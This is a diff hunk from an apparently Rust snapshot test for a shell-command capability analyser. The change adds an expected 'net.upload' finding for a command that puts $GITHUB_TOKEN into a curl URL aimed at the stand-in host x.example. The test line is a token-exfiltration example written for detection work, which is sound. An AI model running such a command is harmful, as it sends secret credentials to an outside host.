@@ -51,6 +51,7 @@ fn variables_read_by_another_name() {
     assert_snapshot!(check("x=$GITHUB_TOKEN; curl https://x.example/$x"), @"
     secret.read environment:GITHUB_TOKEN, read
     net.read x.example, read
+    net.upload x.example, send
     ");
 }
 
